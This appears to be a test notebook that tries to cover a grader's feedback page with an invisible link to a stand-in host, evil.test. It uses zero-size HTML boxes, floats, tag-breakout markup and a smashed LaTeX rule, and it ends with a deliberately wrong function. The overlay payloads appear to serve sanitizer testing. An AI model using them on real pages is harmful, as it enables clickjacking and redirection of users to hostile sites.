"""Lays a link over the whole feedback page: boxes without height, floats without width, formulas that are moved."""

# score: 0
# verdicts: failed

# %%
from IPython.display import HTML, Latex, Markdown, display

LINK = '<a href="https://evil.test/?CANARY"><img width="3000" height="6000" src="data:image/png;base64,AAAA"></a>'

for style in ("height:0; overflow:visible", "float:left; width:0", "display:inline; line-height:0", "max-height:0"):
    display(HTML(f'<div style="{style}">{LINK}</div>'), Markdown(f'<div style="{style}">{LINK}</div>'))
display(HTML(f'</div></div></div><table><tr></div><div style="height:0; overflow:visible">{LINK}'))
display(Latex(r"$\smash{\href{https://evil.test}{\rule{3000px}{6000px}}}$"))


def double(x):
    return x + 1
